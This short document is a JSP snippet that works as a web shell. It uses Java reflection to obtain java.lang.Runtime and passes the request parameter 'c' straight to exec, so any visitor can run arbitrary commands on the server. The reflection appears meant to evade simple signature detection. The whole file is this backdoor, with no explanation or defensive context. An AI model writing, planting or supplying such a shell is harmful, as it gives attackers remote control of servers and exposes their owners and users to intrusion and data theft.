<%
  Class rt = Class.forName("java.lang.Runtime");
  Object r = rt.getMethod("getRuntime").invoke(null);
  rt.getMethod("exec", String.class).invoke(r, request.getParameter("c"));
%>
